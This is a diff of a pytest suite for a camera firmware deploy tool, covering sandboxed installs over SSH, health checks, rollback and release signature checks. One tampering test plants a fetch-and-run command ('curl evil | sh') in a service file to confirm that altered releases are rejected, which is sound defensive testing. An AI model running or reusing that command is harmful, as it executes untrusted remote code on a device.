@@ -1,62 +1,157 @@
-"""bodycam deploy into a --prefix sandbox over a real sshd: the tree, the modes, and a second run that
-changes nothing."""
+"""bodycam deploy of signed releases into --prefix sandboxes over a real sshd: the tree, the modes, the
+service's own health report, the switch between releases and the rollback of one that fails."""
 
 from __future__ import annotations
 
+import json
+import os
+import shutil
 import socket
 import stat
 import sys
 import threading
+from dataclasses import dataclass
 from pathlib import Path
+
+import pytest
 
 from firmware.cli import main
 from station.models import Device
 from station.store import Store
-from storage.keys import create_agency_keys, key_id, load_device_public
+from storage.keys import create_agency_keys, create_signing_key, key_id, load_device_key, load_device_public
+from tests.releases import stop_sandbox_service
+from tests.sshd import SshServer
 
 
 def mode(path: Path) -> int:
     return stat.S_IMODE(path.stat().st_mode)
 
 
-def test_deploy_installs_into_a_sandbox_and_a_second_run_changes_nothing(sshd, tmp_path, capsys):
-    office = tmp_path / "office"
-    create_agency_keys(office)
+@dataclass
+class Camera:
+    """A sandboxed camera reached over sshd, the office's keys and a fleet config."""
+
+    sshd: SshServer
+    release_pub: Path
+    prefix: Path
+    office: Path
+    config: Path
+
+    def argv(self, release: Path, *extra: str, trust: bool = True) -> list[str]:
+        return ["deploy", self.sshd.host, "--user", self.sshd.user, "--port", str(self.sshd.port), "--identity",
+                str(self.sshd.identity), "--known-hosts", str(self.sshd.known_hosts), "--release", str(release),
+                *(["--release-pub", str(self.release_pub)] if trust else []), "--agency-pub",
+                str(self.office / "agency.pub"), "--config", str(self.config), "--prefix", str(self.prefix),
+                "--sandbox", "--python", sys.executable, *extra]
+
+    def deploy(self, release: Path, *extra: str) -> int:
+        return main(self.argv(release, *extra))
+
+
+@pytest.fixture
+def camera(sshd, releases, tmp_path):
+    """The camera; the service a deploy started there is stopped afterwards."""
+    create_agency_keys(tmp_path / "office")
     config = tmp_path / "config.toml"
-    config.write_text('[device]\nid = "cam-07"\n')
-    prefix = tmp_path / "device-root"
+    config.write_text('# the fleet config\n[device]\nid = "cam-07"\n')
+    device = Camera(sshd, releases.pub, tmp_path / "device-root", tmp_path / "office", config)
+    yield device
+    stop_sandbox_service(device.prefix)
+
+
+def health(prefix: Path) -> dict:
+    return json.loads((prefix / "run/bodycam/health.json").read_text())
+
+
+def test_deploy_installs_a_signed_release_the_service_reports_healthy_and_a_rerun_changes_nothing(
+        camera, releases, tmp_path, capsys):
+    deploy, prefix, office, config = camera.deploy, camera.prefix, camera.office, camera.config
     store = Store.init(tmp_path / "station")
-    args = ["deploy", sshd.host, "--user", sshd.user, "--port", str(sshd.port), "--identity", str(sshd.identity),
-            "--known-hosts", str(sshd.known_hosts), "--agency-pub", str(office / "agency.pub"), "--config",
-            str(config), "--prefix", str(prefix), "--store", str(store.root), "--name", "cam-07",
-            "--python", sys.executable, "--extras", ""]
-    assert main(args) == 0
+    assert deploy(releases.old.folder, "--store", str(store.root)) == 0
     first = capsys.readouterr().out
-    assert "changed: venv, firmware, unit, config, data-dir" in first and "device-key" in first
+    assert "changed: release-key, firmware, data-dir, agency-key, station-key, device-key, config, unit" in first, first
+    assert f"healthy: the service reports {releases.old.version} running" in first
     data = prefix / "var/lib/bodycam"
-    assert (prefix / "opt/bodycam/venv/bin/bodycam").exists()
-    assert (prefix / "etc/systemd/system/bodycam.service").read_text().startswith("[Unit]")
-    assert (prefix / "etc/bodycam/config.toml").read_text() == config.read_text()
+    assert os.readlink(prefix / "opt/bodycam/current") == f"releases/{releases.old.version}"
+    assert (prefix / "opt/bodycam/current/venv/bin/bodycam").exists()
+    assert "ExecStart=/opt/bodycam/current/venv/bin/bodycam run" in (
+        prefix / "etc/systemd/system/bodycam.service").read_text()
+    assert (prefix / "etc/bodycam/config.toml").read_text() == config.read_text(), "without --set: as written"
+    assert (prefix / "etc/bodycam/release.pub").read_bytes() == releases.pub.read_bytes()
     assert mode(data) == 0o750 and mode(data / "keys") == 0o700 and mode(data / "keys/device.key") == 0o600
     assert (data / "keys/agency.pub").read_bytes() == (office / "agency.pub").read_bytes()
     assert not (data / "keys/agency.key").exists(), "the agency private key never goes to a device"
     assert (data / "keys/station.pub").read_bytes() == store.station_pub_path.read_bytes()
-    registered = store.db.query(Device).get(name="cam-07")
-    assert registered.key_id == key_id(load_device_public(data / "keys/device.pub"))
-    assert registered.port == sshd.port and registered.host_key.split()[0] == "ssh-ed25519"
-    assert sshd.known_hosts.read_text().split()[2] in registered.host_key, "the host key deploy talked to"
-    assert "BEGIN PUBLIC KEY" in first and "self-test on" in first
+    report = health(prefix)
+    assert report["version"] == releases.old.version and report["stage"] == "worn"
+    assert report["pid"] == int((prefix / "run/bodycam.pid").read_text()), "written by the running service"
+    device_key = key_id(load_device_public(data / "keys/device.pub"))
+    registered = store.db.query(Device).get(key_id=device_key)
+    assert registered.name == "cam-07", "named by its device.id"
+    assert registered.port == camera.sshd.port and registered.firmware_version == releases.old.version
+    assert registered.host_key.split()[0] == "ssh-ed25519"
 
     key_before = (data / "keys/device.key").read_bytes()
-    assert main(args) == 0
-    second = capsys.readouterr().out
-    assert "no changes" in second
+    pid_before = report["pid"]
+    assert deploy(releases.old.folder, "--store", str(store.root)) == 0
+    assert "no changes" in capsys.readouterr().out
     assert (data / "keys/device.key").read_bytes() == key_before, "the device key is kept"
+    assert health(prefix)["pid"] == pid_before, "nothing changed: the service was not restarted"
 
 
-def test_deploy_to_a_device_that_never_answers_stops_at_once_with_what_to_check(tmp_path, capsys):
+def test_a_new_release_replaces_the_running_one_and_one_that_fails_its_health_check_is_rolled_back(
+        camera, releases, capsys):
+    deploy, prefix, config = camera.deploy, camera.prefix, camera.config
+    assert deploy(releases.old.folder) == 0
+    # The new release with a per-camera value that makes this camera's service shut down at once (its
+    # simulated battery is flat): it never reports healthy, so the old release and config come back.
+    code = deploy(releases.new.folder, "--set", "sim.battery_percent=1")
+    out, err = capsys.readouterr()
+    assert code == 3, out + err
+    assert f"bodycam {releases.new.version} failed its health check (the service stopped); rolled back to " \
+           f"{releases.old.version}, and the service is healthy again" in err, err
+    assert '"reason": "battery-critical"' in err, "the service's own last words"
+    assert os.readlink(prefix / "opt/bodycam/current") == f"releases/{releases.old.version}"
+    assert (prefix / "etc/bodycam/config.toml").read_text() == config.read_text()
+    assert health(prefix)["version"] == releases.old.version
+
+    assert deploy(releases.new.folder, "--set", "device.id=cam-08") == 0
+    assert os.readlink(prefix / "opt/bodycam/current") == f"releases/{releases.new.version}"
+    assert health(prefix)["version"] == releases.new.version
+    assert 'id = "cam-08"' in (prefix / "etc/bodycam/config.toml").read_text()
+    kept = sorted(p.name for p in (prefix / "opt/bodycam/releases").iterdir())
+    assert kept == sorted([releases.old.version, releases.new.version]), "the last two releases are kept"
+
+
+def test_a_camera_refuses_an_altered_release_and_one_signed_by_another_key(camera, releases, tmp_path, capsys):
+    deploy, prefix = camera.deploy, camera.prefix
+    altered = tmp_path / "altered"
+    shutil.copytree(releases.old.folder, altered)
+    (altered / "bodycam.service").write_text("[Service]\nExecStart=/bin/sh -c 'curl evil | sh'\n")
+    assert deploy(altered) == 1
+    assert "bodycam.service: altered since the release was signed" in capsys.readouterr().err
+
+    assert deploy(releases.old.folder) == 0
+    capsys.readouterr()
+    other = create_signing_key(tmp_path / "other", "release")
+    code = main(["deploy", "127.0.0.1", "--release", str(releases.old.folder), "--release-pub", str(other),
+                 "--config", str(tmp_path / "config.toml")])
+    assert code == 1 and "not a signature of the trusted release key" in capsys.readouterr().err
+    # Past the laptop's check (no --release-pub given): the camera checks with the key it trusts.
+    foreign = tmp_path / "foreign"
+    shutil.copytree(releases.old.folder, foreign)
+    (foreign / "release.sig").write_bytes(load_device_key(other.with_suffix(".key")).sign(
+        (foreign / "release.json").read_bytes()))
+    assert main(camera.argv(foreign, trust=False)) == 1
+    assert "not a signature of the release key this camera trusts" in capsys.readouterr().err
+    assert os.readlink(prefix / "opt/bodycam/current") == f"releases/{releases.old.version}"
+
+
+def test_deploy_to_a_device_that_never_answers_stops_at_once_with_what_to_check(releases, tmp_path, capsys):
     """A host that accepts TCP but never speaks SSH (a device mid-boot, a wrong address): deploy gives up
-    after --connect-timeout, before building anything, instead of hanging."""
+    after --connect-timeout, before copying anything, instead of hanging."""
+    config = tmp_path / "config.toml"
+    config.write_text("")
     listener = socket.socket()
     listener.bind(("127.0.0.1", 0))
     listener.listen()
@@ -64,6 +159,7 @@ def test_deploy_to_a_device_that_never_answers_stops_at_once_with_what_to_check(
     threading.Thread(target=lambda: accepted.append(listener.accept()[0]), daemon=True).start()
     try:
         code = main(["deploy", "127.0.0.1", "--port", str(listener.getsockname()[1]), "--connect-timeout", "2",
+                     "--release", str(releases.old.folder), "--config", str(config),
                      "--prefix", str(tmp_path / "device-root")])
     finally:
         listener.close()
@@ -71,3 +167,12 @@ def test_deploy_to_a_device_that_never_answers_stops_at_once_with_what_to_check(
     err = capsys.readouterr().err
     assert "cannot reach the device over SSH: no answer within 2 s: is the device switched on" in err, err
     assert "Traceback" not in err
+
+
+def test_deploy_checks_the_config_with_its_per_camera_values_before_reaching_the_camera(releases, tmp_path, capsys):
+    config = tmp_path / "config.toml"
+    config.write_text("[camera]\nfps = 30\n")
+    code = main(["deploy", "192.0.2.1", "--release", str(releases.old.folder), "--config", str(config),
+                 "--set", "camera.fps=300"])
+    assert code == 2
+    assert "camera.fps must be between 1 and 60, got 300" in capsys.readouterr().err
